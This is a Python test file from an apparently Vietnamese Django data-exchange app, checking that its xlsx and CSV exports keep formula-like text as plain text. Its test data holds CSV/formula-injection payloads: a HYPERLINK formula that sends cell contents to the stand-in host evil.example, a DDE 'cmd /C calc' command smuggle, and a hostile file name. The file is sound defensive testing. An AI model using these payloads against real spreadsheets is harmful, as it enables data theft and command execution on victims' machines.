"""No formula from data: every export (xlsx re-opened with openpyxl and read
as XML, CSV read back) keeps text starting with ``=``, ``+``, ``-``, ``@``, a
tab or a carriage return as text, whatever people typed or uploaded; real
negative numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from decimal import Decimal

import openpyxl
import pytest

from ntm.exchange.services import import_upload
from ntm.web.safe_csv import SafeCsvWriter
from ntm.web.xlsx import Column, new_workbook, xlsx_workbook
from tests.exchange.conftest import fill, make_template

pytestmark = pytest.mark.django_db

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?q="&A1,"bấm")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1",
    "-1",
    "\t=1+1",
    "\r=1+1",
    "http://evil.example/",
]
LEADS = ("=", "+", "-", "@", "\t", "\r")
FILE_NAME = '=HYPERLINK(CONCAT("http:", A1), "bấm").xlsx'  # a "/" would cut the name
NUMBER = re.compile(r"-?\d+(,\d+)?")


def assert_no_formula(data: bytes) -> list[str]:
    """Every text of the workbook, after checking that no sheet holds a
    formula or a hyperlink (in the XML itself, not only as openpyxl sees it)."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, name
                assert "<hyperlink" not in xml, name
    wb = openpyxl.load_workbook(io.BytesIO(data))
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate}"
                if isinstance(cell.value, str):  # Excel reads the escaped CR back as CR
                    texts.append(cell.value.replace("_x000D_", "\r"))
    return texts


def assert_csv_safe(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for cell in row:
            assert not cell.startswith(LEADS) or NUMBER.fullmatch(cell), repr(cell)
    return rows


@pytest.fixture
def hostile_world(world, lang_son, cao_loc, tan_lien, enter):
    """Tân Liên named ``=1+1``, its district a HYPERLINK formula, with values."""
    enter(tan_lien, "2023", {"2.1": "85,5%", "3.1": "82"}, status="approved")
    tan_lien.name = HOSTILE[0]
    tan_lien.save(update_fields=["name"])
    cao_loc.name = HOSTILE[1]
    cao_loc.save(update_fields=["name"])
    return tan_lien, cao_loc


def test_the_shared_writer_keeps_text_as_text_and_numbers_as_numbers():
    data = xlsx_workbook(
        HOSTILE[0],
        [Column(HOSTILE[2]), "b", ("c", "0.00"), "d"],
        [(text, -1, Decimal("-2.5"), 3) for text in HOSTILE],
        note=HOSTILE[1],
        sheet_name=HOSTILE[3],
    )
    texts = assert_no_formula(data)
    assert set(HOSTILE) <= set(texts) and HOSTILE[1] in texts
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    assert [ws.cell(3, j).value for j in (2, 3, 4)] == [-1, -2.5, 3]
    assert ws.cell(3, 2).data_type == "n"


def test_new_workbook_refuses_to_turn_the_guarantee_off():
    with pytest.raises(ValueError, match="strings_to_formulas"):
        new_workbook(io.BytesIO(), strings_to_formulas=True)
    buffer = io.BytesIO()
    wb = new_workbook(buffer, constant_memory=True)
    ws = wb.add_worksheet()
    ws.write(0, 0, "=1+1")  # the generic write, as a careless caller would
    ws.merge_range(1, 0, 1, 2, "=SUM(A1)")
    wb.close()
    assert set(assert_no_formula(buffer.getvalue())) == {"=1+1", "=SUM(A1)"}


def test_safe_csv_writer_prefixes_dangerous_text_only():
    out = io.StringIO()
    writer = SafeCsvWriter(out, number=lambda n: str(n).replace(".", ","))
    writer.writerow([*HOSTILE, -1, Decimal("-2.5"), 0, None, "Xã Tân Liên", "a=b", "＝1+1"])
    row = next(csv.reader(io.StringIO(out.getvalue())))
    assert row[: len(HOSTILE)] == ["'" + t if t.startswith(LEADS) else t for t in HOSTILE]
    assert row[len(HOSTILE) :] == ["-1", "-2,5", "0", "", "Xã Tân Liên", "a=b", "'＝1+1"]


def test_dataset_exports_keep_unit_names_as_text(client, world, lang_son, hostile_world):
    tan_lien, _ = hostile_world
    client.force_login(world["vpdp"])
    query = {"don_vi": lang_son.code, "ky": "2023"}
    xlsx = client.get("/du-lieu/xuat/", {**query, "dinh_dang": "xlsx"}).content
    texts = assert_no_formula(xlsx)
    assert HOSTILE[0] in texts and HOSTILE[1] in texts
    values = openpyxl.load_workbook(io.BytesIO(xlsx))["Số liệu"]
    row = next(c.row for c in values["A"] if c.value == tan_lien.code)
    assert values.cell(row, 2).value == HOSTILE[0]
    assert 85.5 in [c.value for c in values[row]]

    response = client.get("/du-lieu/xuat/", {**query, "dinh_dang": "csv"})
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    line = next(r for r in assert_csv_safe(body) if r[0] == tan_lien.code)
    assert line[1:3] == ["'" + HOSTILE[0], "'" + HOSTILE[1]]
    assert "85,5" in line


def test_template_and_import_lists_keep_file_and_unit_names_as_text(
    client, world, cao_loc, hostile_world
):
    tan_lien, _ = hostile_world
    template = make_template(cao_loc)
    assert HOSTILE[0] in assert_no_formula(template)
    officer = world["tanlien"]
    data = fill(template, {(tan_lien.code, "2.1"): "90", (tan_lien.code, "3.1"): "abc"})
    batch = import_upload(user=officer, data=data, filename=FILE_NAME)
    client.force_login(officer)
    for url in (
        f"/du-lieu/nhap/{batch.pk}/xlsx/",
        f"/du-lieu/nhap/{batch.pk}/xlsx/?bang=loi",
        "/du-lieu/lich-su.xlsx",
    ):
        texts = assert_no_formula(client.get(url).content)
        assert any(FILE_NAME in t for t in texts), url
